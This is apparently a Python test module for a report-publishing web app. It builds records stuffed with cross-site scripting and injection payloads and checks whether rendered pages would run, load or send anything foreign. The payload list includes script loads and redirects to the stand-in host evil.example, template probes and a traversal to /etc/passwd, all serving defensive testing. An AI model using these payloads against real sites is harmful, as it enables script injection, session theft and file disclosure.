"""A store whose reports try to run script, and what tells whether a page would let them."""

from __future__ import annotations

import dataclasses
from collections.abc import Iterable, Iterator
from html.parser import HTMLParser
from itertools import cycle
from urllib.parse import urlsplit

from fastapi import FastAPI
from starlette.routing import Route

from dateline.records import CodedReport, Reading
from tests.export.coded_reports import TEXT, report

PAYLOADS = (
    "<script>alert(1)</script>",
    '"><script src=//evil.example/x.js></script>',
    '"><img src=x onerror=alert(1)>',
    "'><svg/onload=alert(1)>",
    "' autofocus onfocus=alert(1) x='",
    '" onmouseover="alert(1)" x="',
    "javascript:alert(1)//",
    " java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "</title></textarea></style></script><script>alert(1)</script>",
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">',
    '<a href="javascript:alert(1)">read on</a>',
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<base href=//evil.example/>",
    '<meta http-equiv="refresh" content="0;url=//evil.example/">',
    "<form action=//evil.example/><button>Sign in",
    "{{ 7 * 191 }}${7 * 191}#{7 * 191}",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;",
    "../../../../etc/passwd\x00<b>.html",
)
EACH = 3
"""Payloads in the body of one report."""
FORBIDDEN = frozenset({"iframe", "object", "embed", "base", "math", "frame", "frameset", "applet", "style", "mglyph"})
ADDRESSES = frozenset({"href", "src", "action", "formaction", "xlink:href", "srcset", "poster", "data", "background", "ping"})


def hostile(n: int) -> CodedReport:
    """Return a report whose texts are payloads, another in each place that a page may show, from the nth on."""
    given = cycle(PAYLOADS[n:] + PAYLOADS[:n])
    plain = report(f"{next(given)} {n}", text=f"{TEXT}\r\n" + "\r\n".join(PAYLOADS[n : n + EACH]))
    sighting = dataclasses.replace(
        plain.page.sighting, title=next(given), outlet=f"{next(given)} daily", original_outlet=next(given), url=PAYLOADS[6 + n % 3],
        address=f"reports/{next(given)}.html",
    )  # fmt: skip
    first, *others = plain.events
    actors = tuple(dataclasses.replace(one, name=f"{next(given)} army", side=next(given)) for one in first.participants)
    place = dataclasses.replace(first.locations[0], name=f"{next(given)} town", admin1=next(given), country=next(given))
    spoken = dataclasses.replace(plain.claims[0], source=dataclasses.replace(plain.claims[0].source, name=f"{next(given)} spokesman"))
    controls = tuple(dataclasses.replace(one, place=place.name, holder=next(given), side=actors[0].side) for one in plain.controls)
    return dataclasses.replace(
        plain,
        page=dataclasses.replace(plain.page, sighting=sighting),
        reading=Reading(sighting.id, plain.reading.reader, plain.reading.resources),
        events=(dataclasses.replace(first, participants=actors, locations=(place,)), *others),
        claims=(spoken, *plain.claims[1:]),
        controls=controls,
    )


class _Reader(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        if tag in FORBIDDEN:
            self.faults.append(f"<{tag}>")
        if tag == "script" and not (given.get("src") or "").startswith("/static/"):
            self.faults.append(f"<script {attrs}>")
        if tag == "meta" and "http-equiv" in given:
            self.faults.append(f"<meta {attrs}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.faults.append(f"<{tag} {name}={value}>")
            if name in ADDRESSES and not _harmless(tag, value or ""):
                self.faults.append(f"<{tag} {name}={value!r}>")


def _harmless(tag: str, address: str) -> bool:
    """Tell whether an address may stand in a page: the desk's own, or, in a link that is followed by hand, one of the web."""
    said = "".join(char for char in address if char > " ")
    parts = urlsplit(said)
    if tag == "a" and parts.scheme in ("http", "https", "mailto"):
        return True
    return not parts.scheme and not parts.netloc and not said.startswith(("//", "\\"))


def faults(page: str) -> list[str]:
    """Return what of a page would run, load or send something that is not the desk's."""
    reader = _Reader()
    reader.feed(page)
    reader.close()
    return reader.faults


def routes(app: FastAPI) -> Iterator[tuple[str, str]]:
    """Yield method and path of every route of the desk, whether or not the description of the API names it."""
    for route in _all(app.routes):
        for method in sorted(route.methods or ()):
            yield method, route.path


def _all(several: Iterable[object]) -> Iterator[Route]:
    for one in several:
        if isinstance(one, Route):
            yield one
        elif (inner := getattr(one, "original_router", None)) is not None:
            yield from _all(inner.routes)
